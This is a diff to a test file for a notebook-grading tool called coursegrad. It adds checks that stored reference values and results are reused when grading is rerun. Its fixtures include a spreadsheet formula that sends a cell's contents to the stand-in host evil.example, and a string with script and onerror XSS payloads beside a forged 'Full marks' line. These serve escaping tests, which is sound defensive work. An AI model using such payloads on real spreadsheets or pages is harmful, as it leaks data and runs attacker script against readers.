@@ -17,9 +17,10 @@ import hostile_worksheet as H
 import nbformat
 import pytest
 
-from coursegrad.grading import batch, lifetime, report
+from coursegrad.grading import batch, lifetime, report, worker
 from coursegrad.grading.escape import csv_cell, file_name, md_block, md_inline
 from coursegrad.grading.grade import grade_notebook
+from coursegrad.grading.reference import prepare
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORGERY = "``````\n# Full marks: 3 / 3\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>"
@@ -147,7 +148,7 @@ def test_links_and_special_files_are_refused(graded):
         assert results[student].status == "invalid" and results[student].total == 0
         assert results[student].notes[0].startswith("refused:"), results[student].notes
     # control: followed, the link is the instructor's source, which scores full marks
-    assert grade_notebook(graded["src"], graded["src"], "source", timeout=10).total == 3.0
+    assert grade_notebook(prepare(graded["src"], timeout=10), graded["src"], "source", timeout=10).total == 3.0
 
 
 def test_old_nbformat_is_upgraded_and_graded(graded):
@@ -166,19 +167,30 @@ def test_a_rerun_resumes_from_the_stored_results(graded, monkeypatch):
     out = graded["out"]
     stored = sorted(p.name for p in (out / "results").iterdir())
     graded_students = [s for s, r in graded["results"].items() if r.status == "graded"]
-    assert stored == sorted(f"{file_name(s)}.json" for s in graded_students)
+    assert stored == sorted([batch.REFERENCE] + [f"{file_name(s)}.json" for s in graded_students])  # with the reference
+    computed = []
+
+    def computing(ws, **options):
+        computed.append(ws.name)
+        raise AssertionError("the reference values stored with the results should have been used")
+
+    monkeypatch.setattr(batch, "with_reference", computing)
     (out / "results" / f"{file_name('bob_smith')}.json").unlink()  # lost, or deleted by someone
     nb = H.correct()
     nbformat.write(nb, str(graded["subs"] / "Bob_Smith" / H.NAME))  # changed since it was graded
     calls = []
-    real = batch._grade_one
-    monkeypatch.setattr(batch, "_grade_one", lambda *a: calls.append(a[1]) or real(*a))
+    real = worker.grade_one
+    monkeypatch.setattr(worker, "grade_one", lambda *a: calls.append(a[1]) or real(*a))
     again = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, results_dir=out / "results")
     assert sorted(calls) == ["Bob_Smith", "bob_smith"]
     by_name = {r.student: r for r in again}
     assert by_name["Bob_Smith"].total == 3.0 and by_name["bob smith"].total == 3.0
     assert by_name["injector"].questions == graded["results"]["injector"].questions
     assert not list((out / "results").glob("*.tmp"))
+    assert computed == []  # the reference values stored with the results were used, not computed again
+    calls.clear()
+    unchanged = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, results_dir=out / "results")
+    assert calls == [] and [r.total for r in unchanged] == [r.total for r in again]  # nothing changed: no kernel runs
 
 
 def test_scratch_folders_of_killed_graders_are_removed_at_the_next_start(tmp_path):
